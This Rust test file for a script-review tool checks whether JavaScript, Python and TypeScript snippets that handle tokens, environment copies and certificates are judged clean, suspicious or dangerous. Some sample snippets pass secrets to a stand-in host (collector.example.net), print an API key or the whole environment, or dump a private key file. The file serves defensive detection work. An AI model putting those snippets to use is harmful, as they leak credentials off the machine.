//! A token read from the environment and handed to the program that logs in with it is used,
//! not leaked: given in the child's environment under a credential variable of the program's
//! own (`TOOL_API_SECRET` for the tool, kept out of `ps`), when the command names no other
//! place it connects to (a URL, a `--registry`, a `login HOST`). A request to `${origin}/v1`
//! of `new URL(raw)` goes to the URL's own origin, and a scheme put before an address that
//! already has one (`http://${raw}` on the branch a `/^https?:/` test ruled out) is no
//! destination. One variable picked by name out of a copy of the environment (`env =
//! dict(os.environ)`; `env["KEY"]`) is that variable, not the whole environment. A certificate
//! parsed out of a `.pem` file (`new crypto.X509Certificate(pem)`) is public: printing its
//! subject is no leak (the read of the file is still one to look at). Each benign row has its twins beside it: the same value given to a shell or
//! a source file, under another service's variable, to a program that sends it where its
//! arguments say, printed whole, or sent to an address off this machine stays flagged.

use terraphim_script_review::{Language, Verdict};

use crate::rows;

use Language::{JavaScript as Js, Python as Py, TypeScript as Ts};
use Verdict::{Clean, Dangerous, Suspicious};

/// A Node release step that hands `DEPLOY_TOKEN` to `program args` in the child's environment
/// under `key`.
fn js_child_env(program: &str, args: &str, key: &str) -> String {
    format!(
        r#"const {{ spawnSync }} = require('node:child_process');

const token = process.env.DEPLOY_TOKEN;
if (!token) {{
  console.error('DEPLOY_TOKEN is not set');
  process.exit(1);
}}
const res = spawnSync('{program}', [{args}], {{
  stdio: 'inherit',
  env: {{ ...process.env, {key}: token }},
}});
process.exit(res.status ?? 1);
"#
    )
}

/// A Python build step that hands `RELEASE_PASSWORD` to `argv` in the child's environment under
/// `key`.
fn py_child_env(argv: &str, key: &str) -> String {
    format!(
        r#"import os
import subprocess

password = os.environ["RELEASE_PASSWORD"]
env = {{**os.environ, "{key}": password}}
subprocess.run([{argv}], env=env, check=True)
"#
    )
}

/// A TypeScript status check of a key-value service whose address setting defaults to
/// `default`, turned into a URL as `to_url` says, with its token in a header.
fn ts_origin(default: &str, to_url: &str) -> String {
    format!(
        r#"const raw = process.env.LEDGER_ADDR ?? "{default}";

function base(): string {{
  {to_url}
}}

async function main(): Promise<void> {{
  const headers: Record<string, string> = {{ Accept: "application/json" }};
  if (process.env.LEDGER_TOKEN) headers["X-Ledger-Token"] = process.env.LEDGER_TOKEN;
  const res = await fetch(`${{base()}}/v1/status`, {{ headers }});
  console.log(res.status);
}}

main();
"#
    )
}

const TS_ORIGIN: &str = r#"const url = new URL(/^https?:\/\//.test(raw) ? raw : `http://${raw}`);
  return url.origin;"#;

const TS_SCHEME_ADDED: &str = r#"return /^https?:\/\//.test(raw) ? raw : `http://${raw}`;"#;

#[test]
fn credentials_handed_to_their_program_are_used() {
    rows(&[
        // In the child's environment, under a credential variable of the program's own.
        (
            Js,
            js_child_env("octo-release", "'publish', '--wait'", "OCTO_API_TOKEN"),
            Clean,
            "",
        ),
        (
            Js,
            js_child_env("npx", "'octo-release', 'publish'", "OCTO_API_TOKEN"),
            Clean,
            "",
        ),
        // The same token given to a shell, whose code may send it anywhere.
        (
            Js,
            js_child_env("bash", "'-c', 'make release'", "OCTO_API_TOKEN"),
            Suspicious,
            "secret-read",
        ),
        // Under another service's token variable: that program sends it to its own service.
        (
            Js,
            js_child_env("gh", "'release', 'list'", "GH_TOKEN"),
            Suspicious,
            "secret-read",
        ),
        // Under a variable that is no credential's.
        (
            Js,
            js_child_env("octo-release", "'publish'", "OCTO_LABEL"),
            Suspicious,
            "secret-read",
        ),
        // The program's own variable, but the command names another place it connects to:
        // the credential goes there.
        (
            Js,
            js_child_env(
                "octo-release",
                "'publish', '--url', 'https://collector.example.net'",
                "OCTO_API_TOKEN",
            ),
            Suspicious,
            "secret-read",
        ),
        (
            Py,
            py_child_env(
                r#""releasectl", "publish", "--registry", "https://collector.example.net""#,
                "RELEASECTL_PASSWORD",
            ),
            Suspicious,
            "secret-read",
        ),
        (
            Py,
            py_child_env(r#""releasectl", "publish""#, "RELEASECTL_PASSWORD"),
            Clean,
            "",
        ),
        (
            Py,
            py_child_env(r#""./tools/upload.sh""#, "STORE_PASSWORD"),
            Suspicious,
            "secret-read",
        ),
        (
            Py,
            py_child_env(r#""python3", "tools/upload.py""#, "STORE_PASSWORD"),
            Suspicious,
            "secret-read",
        ),
    ]);
}

#[test]
fn a_request_to_the_origin_of_its_address_setting_goes_there() {
    rows(&[
        (Ts, ts_origin("http://127.0.0.1:8500", TS_ORIGIN), Clean, ""),
        (
            Ts,
            ts_origin("http://127.0.0.1:8500", TS_SCHEME_ADDED),
            Clean,
            "",
        ),
        // The same token sent to an address off this machine nobody answers for.
        (
            Ts,
            ts_origin("http://collector.example.net:8500", TS_ORIGIN),
            Dangerous,
            "exfiltration",
        ),
        (
            Ts,
            ts_origin("http://collector.example.net:8500", TS_SCHEME_ADDED),
            Dangerous,
            "exfiltration",
        ),
    ]);
}

/// A Python helper that copies the environment, falls back to nothing else, and then does
/// `tail` with `env`.
fn py_env_copy(tail: &str) -> String {
    format!(
        r#"import os


def mask(secret: str) -> str:
    if not secret:
        return "<unset>"
    return "*" * max(len(secret) - 4, 0) + secret[-4:]


env = dict(os.environ)
if "LEDGER_API_KEY" not in env:
    raise SystemExit("LEDGER_API_KEY is not set")
{tail}
"#
    )
}

#[test]
fn one_variable_of_a_copy_of_the_environment_is_that_variable() {
    rows(&[
        (
            Py,
            py_env_copy(r#"print(f"using LEDGER_API_KEY {mask(env['LEDGER_API_KEY'])}")"#),
            Clean,
            "",
        ),
        (
            Py,
            py_env_copy(r#"print("port", env.get("LEDGER_PORT", "8080"))"#),
            Clean,
            "",
        ),
        // The same variable printed whole, and the whole copy printed.
        (
            Py,
            py_env_copy(r#"print(f"using LEDGER_API_KEY {env['LEDGER_API_KEY']}")"#),
            Dangerous,
            "exfiltration",
        ),
        (Py, py_env_copy("print(env)"), Suspicious, "exfiltration"),
    ]);
}

#[test]
fn a_parsed_certificate_is_public() {
    rows(&[
        (
            Js,
            r#"const fs = require('node:fs');
const crypto = require('node:crypto');

const pem = fs.readFileSync('certs/dev.pem');
const cert = new crypto.X509Certificate(pem);
console.log(`dev certificate for ${cert.subject}, valid to ${cert.validTo}`);
"#
            .to_owned(),
            // The read of a `.pem` file is still one to look at; what is printed is no leak.
            Suspicious,
            "secret-read",
        ),
        (
            Py,
            r#"from pathlib import Path
from cryptography import x509

cert = x509.load_pem_x509_certificate(Path("certs/dev.pem").read_bytes())
print("valid until", cert.not_valid_after_utc)
"#
            .to_owned(),
            Suspicious,
            "secret-read",
        ),
        // The same file's bytes printed as they are.
        (
            Js,
            r#"const fs = require('node:fs');

const pem = fs.readFileSync('certs/dev-key.pem', 'utf8');
console.log(pem);
"#
            .to_owned(),
            Dangerous,
            "exfiltration",
        ),
    ]);
}
